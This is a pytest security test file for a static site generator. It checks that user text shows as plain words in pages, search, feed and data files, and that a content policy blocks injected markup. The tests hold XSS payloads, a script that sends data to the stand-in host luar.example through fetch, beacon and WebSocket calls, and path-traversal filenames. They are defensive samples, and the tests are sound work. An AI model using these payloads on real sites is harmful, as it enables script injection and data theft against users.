"""Words of strangers stay words in page, feed, data and search; and were one to slip through, the policy holds."""

from __future__ import annotations

import json
from dataclasses import fields, is_dataclass, replace
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import pytest
from pydantic import BaseModel

from browser import DESKTOP, Visit, served
from office_repo import SOURCE
from siklus.errors import SiklusError
from siklus.site import build_site, stage
from siklus.site.audience import public_pages, public_workspace

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser

    from siklus.site import CyclePage, SiteRequest

pytestmark = pytest.mark.slow

#: Put behind every text that people write. Each piece runs somewhere, unless it is shown as the letters that it is.
EVIL = (
    " jebolan\"'><script>jebol=1</script><img src=x onerror=jebol=1><svg/onload=jebol=1>"
    "<a href='javascript:jebol=1'>x</a> [x](javascript:jebol=1) ![x](https://luar.example/x.png)"
    " {{ config }} {% raw %} --> ]]> </title></textarea></style> <iframe srcdoc='<script>parent.jebol=1</script>'>"
)
#: The same inside a document, where Markdown is read.
EVIL_BODY = (
    "\n\n<script>jebol=1</script>\n\n<svg><script>jebol=1</script></svg>\n\n"
    "<div onclick='jebol=1'>\n\nhai\n\n</div>\n\n[x](javascript:jebol=1) [y](&#106;avascript:jebol=1) "
    "![z](https://luar.example/x.png) <style>*{color:red}</style>\n\n"
    "<form action=https://luar.example><button>x</button></form>\n\n"
    "<meta http-equiv=refresh content='0;url=//luar.example'>\n"
)
#: Everything on a page that could run, load or send something, other than what the site itself is made of.
_ALIVE = """() => [...document.querySelectorAll("*")].flatMap(one => [
    ...[...one.attributes]
        .filter(it => /^on/i.test(it.name) || /^\\s*(javascript|vbscript|data):(?!,$)/i.test(it.value))
        .map(it => `${one.tagName} ${it.name}=${it.value.slice(0, 60)}`),
    ...(one.tagName === "SCRIPT" && one.type !== "application/json" && !one.src.startsWith(ROOT) ||
        one.matches("iframe, object, embed, base, meta[http-equiv=refresh], form[action], article style")
        ? [one.outerHTML.slice(0, 80)] : []),
])"""
#: What an attacker tries once a piece of markup did slip through.
_ATTEMPTS = [
    "<img src=x onerror='jebol=1'>",
    "<svg onload='jebol=1'></svg>",
    "<iframe srcdoc='<script>parent.jebol=1</script>'></iframe>",
    "<img src='https://luar.example/x.png'>",
    "<iframe src='https://luar.example/'></iframe>",
    "<object data='https://luar.example/x.swf'></object>",
    "<link rel=stylesheet href='https://luar.example/x.css'>",
    "<base href='https://luar.example/'>",
    "<audio src='https://luar.example/x.mp3' autoplay></audio>",
]
_RUN = """() => {
    const script = document.createElement("script")
    script.textContent = "jebol=1"
    document.body.append(script)
    const far = document.createElement("script")
    far.src = "https://luar.example/x.js"
    document.body.append(far)
    fetch("https://luar.example/").catch(() => 0)
    navigator.sendBeacon("https://luar.example/", "x")
    setTimeout("jebol=1") // eval itself is always allowed to whoever drives the browser
    try { new WebSocket("wss://luar.example/") } catch {}
    const form = document.createElement("form")
    form.action = "https://luar.example/"
    document.body.append(form)
    form.submit()
}"""

#: True once the page, or a frame in it, tells that something was stopped.
_STOPPED = """() => [window, ...Array.from({ length: window.length }, (_, at) => window[at])]
    .some(one => one.dilanggar?.length)"""

#: Where things lie, not words: a path, the lines of a file, a tree of files.
_AS_THEY_ARE = {"path", "marks", "tree", "files"}


def poison(value: Any) -> Any:
    """The same, with evil behind every text that holds a space: ids, codes and numbers hold none."""
    match value:
        case str():
            return value + EVIL if " " in value.strip() else value
        case BaseModel():
            return value.model_copy(update={name: poison(getattr(value, name)) for name in type(value).model_fields})
        case tuple() if not hasattr(value, "_fields"):
            return tuple(map(poison, value))
        case dict():
            return {key: poison(one) for key, one in value.items()}
        case _ if is_dataclass(value) and not isinstance(value, type):
            names = [one.name for one in fields(value) if one.init and one.name not in _AS_THEY_ARE]
            return replace(value, **{name: poison(getattr(value, name)) for name in names})
        case _:
            return value


def poisoned(request: SiteRequest) -> SiteRequest:
    return replace(request, workspace=poison(request.workspace), cycles=tuple(map(poisoned_page, request.cycles)))


def poisoned_page(page: CyclePage) -> CyclePage:
    case = page.case
    archived = {
        path: data + EVIL_BODY.encode() if path.endswith(".md") else data for path, data in page.archived.items()
    }
    case = replace(case, workspace=poison(case.workspace), told=poison(case.told), verdict=poison(case.verdict))
    return replace(page, case=case, archived=archived, progress=poison(page.progress))


@pytest.fixture(scope="module", params=["internal", "publik"])
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, _sites: Any) -> Path:
    """A site whose every text is hostile."""
    wanted = poisoned(_sites("archived"))
    if request.param == "publik":
        cycles = tuple(public_pages(wanted.cycles, ()))
        wanted = replace(wanted, workspace=public_workspace(wanted.workspace), cycles=cycles, audience="publik")
    folder = tmp_path_factory.mktemp(request.param)
    build_site(wanted, config=SOURCE / "mkdocs.yml", staging=folder / "halaman", target=folder / "situs")
    return folder / "situs"


def test_nothing_comes_to_life_on_any_page(browser: Browser, hostile: Path) -> None:
    pages = [path.relative_to(hostile).as_posix() for path in sorted(hostile.rglob("*.html"))]
    seen = 0
    with served(hostile) as address:
        visit = Visit(browser, DESKTOP)
        visit.page.on("dialog", lambda dialog: visit.troubles.append(dialog.message))
        for one in pages:
            page = visit.go(address + one)
            assert page.evaluate(_ALIVE.replace("ROOT", json.dumps(address))) == [], one
            assert page.evaluate("typeof jebol") == "undefined", one
            assert visit.violations() == [], one
            seen += "jebolan\"'><script>" in page.inner_text("body")
        assert visit.troubles == []
        visit.close()
    assert seen >= 3  # the words are there, as words


def test_the_search_shows_words_as_words(browser: Browser, hostile: Path) -> None:
    with served(hostile) as address:
        visit = Visit(browser, DESKTOP)
        page = visit.go(f"{address}index.html")
        page.locator("[name=query]").click()
        page.keyboard.type("jebolan")
        page.locator(".md-search-result__link").first.wait_for()
        assert "<script>" in page.inner_text(".md-search-result__list")
        assert page.evaluate(_ALIVE.replace("ROOT", json.dumps(address))) == []
        assert page.evaluate("typeof jebol") == "undefined"
        assert visit.violations() == []
        visit.close()
        assert visit.troubles == []


def test_feed_map_and_data_hold_text_alone(hostile: Path) -> None:
    feed = ET.parse(hostile / "umpan.xml").getroot()  # noqa: S314 -- our own
    assert {one.tag.rpartition("}")[2] for one in feed.iter()} == {
        "feed", "title", "id", "link", "updated", "author", "name", "entry", "summary"
    }  # fmt: skip
    assert any("<script>jebol=1</script>" in (one.text or "") for one in feed.iter())
    ET.parse(hostile / "sitemap.xml")  # noqa: S314 -- the same
    (cycle,) = json.loads((hostile / "data/siklus.json").read_text(encoding="utf-8"))["siklus"]
    assert cycle["judul"].endswith(EVIL)
    index = json.loads((hostile / "search/search_index.json").read_text(encoding="utf-8"))
    assert not [one for one in index["docs"] if "<script" in one["title"] + one["text"]]


def test_the_policy_stops_what_slipped_through(browser: Browser, archive_site: str) -> None:
    for attempt in (*_ATTEMPTS, None):
        visit = Visit(browser, DESKTOP)
        page = visit.go(f"{archive_site}siklus/2026-tw4/index.html")
        if attempt is None:
            page.evaluate(_RUN)
        else:
            page.evaluate("text => document.body.insertAdjacentHTML('beforeend', text)", attempt)
        page.wait_for_function(_STOPPED)
        assert page.evaluate("typeof jebol") == "undefined", attempt
        assert page.url.startswith(archive_site)
        assert not [one for one in visit.troubles if "asked for" in one], attempt
        visit.close()


@pytest.mark.parametrize("path", ["pdf/../../../../luar.pdf", "pdf//luar.pdf", "pdf/..\\luar.pdf", "pdf/a\nb.pdf"])
def test_no_file_of_the_archive_leads_out_of_the_site(archived: SiteRequest, tmp_path: Path, path: str) -> None:
    (one,) = archived.cycles
    wanted = replace(archived, cycles=(replace(one, archived={**one.archived, path: b"luar"}),))
    with pytest.raises(SiklusError, match="tidak dapat dibuka di setiap komputer"):
        stage(wanted, tmp_path / "a/b/c/d/e/halaman", config=SOURCE / "mkdocs.yml")
    assert not list(tmp_path.rglob("*luar*"))
